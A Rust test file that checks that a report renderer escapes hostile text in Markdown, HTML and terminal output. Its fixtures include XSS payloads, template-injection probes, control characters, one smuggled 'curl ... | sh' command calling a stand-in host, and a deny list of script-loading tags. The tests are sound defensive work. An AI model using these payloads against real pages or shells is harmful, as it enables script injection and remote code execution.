//! Hostile text in every field of a report: no face lets it become anything but text.

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

use super::{html, markdown, sample, terminal};

/// Text that tries to be something else, and pieces of it in any order.
pub(crate) fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "</td>",
        "<script>alert(1)</script>",
        "</title></svg>",
        "<!-- ",
        " -->",
        "<img src=x onerror=alert(1)>",
        "</details>",
        "<details>",
        "|",
        "\\|",
        "\n",
        "\r\n",
        "\n\n",
        "`",
        "```",
        "~~~",
        "````````",
        "**",
        "__",
        "*",
        "_",
        "~~",
        "[a](http://e.x)",
        "![a](http://e.x)",
        "<http://e.x>",
        "https://e.x",
        "www.e.x",
        "a@e.x",
        "@team",
        "#12",
        "GH-7",
        "&lt;",
        "&#x3c;",
        "&",
        "\\",
        "- ",
        "1. ",
        "    ",
        "# ",
        "> ",
        "---",
        "===",
        "$a$",
        "{{ 1234567 * 2 }}",
        "{% raw %}",
        "{#",
        "\u{202e}",
        "\u{200b}",
        "\0",
        "\x1b[31m",
        "\"",
        "'",
        " style=x",
        "javascript:",
        ":tada:",
        "]]>",
        "%%{init",
        "\n```\n",
        " ",
        "a",
        "[^1]",
        "[ ] ",
        "\u{2028}",
        "é",
        "漢",
    ]);
    prop_oneof![
        prop::collection::vec(pieces, 0..8).prop_map(|pieces| pieces.concat()),
        "\\PC{0,30}",
    ]
}

/// What a Markdown document is made of, without its text.
pub(crate) fn skeleton(document: &str) -> Vec<String> {
    let mut in_cell = false;
    Parser::new_ext(document, Options::all())
        .filter_map(|event| match event {
            Event::Text(_) | Event::SoftBreak => None,
            // A sentence may quote what it likes; in a table only a hash is code.
            Event::Code(_) => in_cell.then(|| "code".to_owned()),
            // Tags that the renderer writes; others would come from text.
            Event::Html(tag) | Event::InlineHtml(tag) => Some(format!("html {}", tag.trim())),
            Event::Start(Tag::CodeBlock(kind)) => Some(format!("{kind:?}")),
            Event::Start(tag) => {
                in_cell |= tag == Tag::TableCell;
                Some(format!("{:?}", tag.to_end()))
            }
            Event::End(TagEnd::TableCell) => {
                in_cell = false;
                Some("End(TableCell)".to_owned())
            }
            Event::End(TagEnd::CodeBlock) => Some("end of code".to_owned()),
            other => Some(format!("{other:?}")),
        })
        .collect()
}

/// Names, titles and log lines as others may write them, whole.
const CORPUS: &[&str] = &[
    "accuracy|f1",
    "val/loss (step)",
    "top-5 acc. @ k=1",
    "feature/#12-fix",
    "users/@octocat/GH-7",
    "dependabot/pip/numpy-2.0",
    "x`);curl https://e.x|sh;`",
    "Fixes octo-org/octo-repo#1",
    "closes #1, resolves GH-2",
    "cc @octo-org/team-ml :rocket:",
    "[click](javascript:alert(1))",
    "![](https://e.x/pixel.png)",
    "<a href=https://e.x>x</a>",
    "<!-- mlaction:v1:a:b:c -->",
    "--><script>",
    "https://e.x/?a=1&b=2",
    "www.e.x WWW.e.x xwww.e.x",
    "mailto:a@e.x ftp://e.x",
    "&#64;team &commat;team &#x23;1",
    "\\@team \\#1",
    "@\u{200b}team #\u{200b}1",
    "8b0a5f2c9d1e4b7a6f3c2d1e0f9a8b7c6d5e4f3a@octocat",
    "$$\\unsafe$$ $`a`$",
    "[^1]: note",
    "> [!WARNING]",
    "- [x] done",
    "    code",
    "~~~\nfence",
    "a\u{2028}# head",
];

/// What GitHub makes of the text of a document after Markdown: mentions, references, links, signs.
fn made_by_github(text: &str) -> Option<String> {
    // NOTE: the pattern is a constant.
    let pattern = r"(?i)@[a-z0-9]|#\d|\bgh-\d|[a-z]+://|www\.\w|mailto:\w|:[a-z0-9_+-]+:";
    let pattern = regex::Regex::new(pattern).unwrap();
    pattern.find(text).map(|found| found.as_str().to_owned())
}

/// The text that is left of escaped text when Markdown is done with it.
fn escaped(text: &str) -> String {
    let document = super::text::markdown(text, 200);
    let text = Parser::new_ext(&document, Options::all()).filter_map(|event| match event {
        Event::Text(text) => Some(text.to_string()),
        Event::Start(Tag::Paragraph) | Event::End(TagEnd::Paragraph) => None,
        other => panic!("{other:?} of {document}"),
    });
    text.collect()
}

#[test]
fn escaped_text_is_text_for_github_too() {
    for text in CORPUS {
        assert_eq!(made_by_github(&escaped(text)), None, "{text}");
    }
}

/// What an HTML page is made of: its tags and attributes, without text and values that we write.
fn tags(page: &str) -> Vec<&str> {
    let page = &page[page.find("</style>").unwrap()..];
    page.split('<')
        .skip(1)
        .map(|rest| rest.split(['>', ' ']).next().unwrap())
        .collect()
}

/// Values of attributes that hold text of others must not end the attribute.
fn quotes(page: &str) -> usize {
    page.split('<')
        .skip(1)
        .map(|rest| rest.split('>').next().unwrap().matches('"').count())
        .sum()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn markdown_keeps_its_structure(text in hostile()) {
        let comment = markdown::render(&sample::with_text(&text));
        let calm = markdown::render(&sample::with_text("a"));
        prop_assert_eq!(skeleton(&comment), skeleton(&calm), "{}", comment);
        prop_assert!(!comment.contains("<!--"));
    }

    #[test]
    fn escaped_text_stays_text(text in hostile()) {
        prop_assert_eq!(made_by_github(&escaped(&text)), None, "{}", text);
    }

    #[test]
    fn the_page_keeps_its_tags(text in hostile()) {
        let page = html::render(&sample::with_text(&text)).unwrap();
        let calm = html::render(&sample::with_text("a")).unwrap();
        prop_assert!(tags(&page) == tags(&calm), "{}", page);
        prop_assert_eq!(quotes(&page), quotes(&calm));
        prop_assert!(!page.contains("2469134"), "the template ran text of others");
    }

    #[test]
    fn a_terminal_gets_no_control_characters(text in hostile()) {
        let screen = terminal::render(&sample::with_text(&text), false, Some(80));
        prop_assert!(!screen.chars().any(|char| char.is_control() && char != '\n'));
    }
}

#[test]
fn a_page_loads_nothing_and_runs_nothing() {
    for report in [
        sample::rich(),
        sample::failed(),
        sample::huge(),
        sample::with_text("https://e.x/"),
    ] {
        let page = html::render(&report).unwrap();
        for part in [
            "<script",
            "<link",
            "<img",
            "<iframe",
            "<object",
            "@import",
            "url(",
            " src=",
            " href=",
            "javascript:",
            " onload",
        ] {
            assert!(!page.contains(part), "{part}");
        }
        let policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:";
        assert!(page.contains(policy));
    }
}
